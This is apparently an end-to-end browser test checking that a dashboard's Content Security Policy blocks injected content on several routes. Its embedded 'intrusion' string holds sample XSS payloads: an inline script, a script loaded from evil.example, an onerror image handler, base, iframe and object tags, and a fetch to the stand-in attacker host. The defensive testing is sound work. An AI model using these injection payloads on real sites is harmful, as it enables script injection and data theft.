import { describe, expect, it, onTestFinished } from 'vitest';
import { openBrowser } from '../support/browser/open-browser.ts';
import { hubEntry } from '../support/stack-addresses.ts';

/** What somebody who got text into a page would have it do; answers what was forbidden of it. */
const intrusion = `new Promise((resolve) => {
  const forbidden = new Set();
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => forbidden.add(effectiveDirective));
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  add('script', { textContent: 'window.intruded = "by text"' });
  add('script', { src: 'https://evil.example/x.js' });
  add('div', { innerHTML: '<img src="x" onerror="window.intruded = 1">' });
  add('img', { src: 'https://evil.example/x.png' });
  add('iframe', { src: 'https://evil.example/' });
  add('object', { data: 'https://evil.example/x' });
  add('base', { href: 'https://evil.example/' });
  try { setTimeout('window.intruded = "by a timer"'); } catch {}
  fetch('https://evil.example/').catch(() => {});
  setTimeout(() => resolve({ forbidden: [...forbidden].sort(), intruded: window.intruded ?? null, base: document.baseURI }), 1000);
})`;

describe('a page of the dashboard', () => {
  it.each(['/app', '/app/new', '/app/analysis?id=x', '/app/admin', '/app/monitor', '/nowhere'])(
    'at %s does nothing of what is slipped into it',
    async (path) => {
      const { host, port } = await hubEntry('hosting');
      const context = await (await openBrowser()).newContext();
      onTestFinished(() => context.close());
      const page = await context.newPage();
      const address = `http://${host}:${port}`;
      await page.goto(`${address}${path}`);
      const seen = await page.evaluate<{ forbidden: string[]; intruded: unknown; base: string }>(
        intrusion,
      );
      expect(seen.intruded).toBeNull();
      expect(seen.base.startsWith(address)).toBe(true);
      expect(seen.forbidden).toEqual(
        expect.arrayContaining([
          ...['base-uri', 'connect-src', 'frame-src', 'img-src', 'object-src'],
          ...['script-src-attr', 'script-src-elem'],
        ]),
      );
    },
  );
});
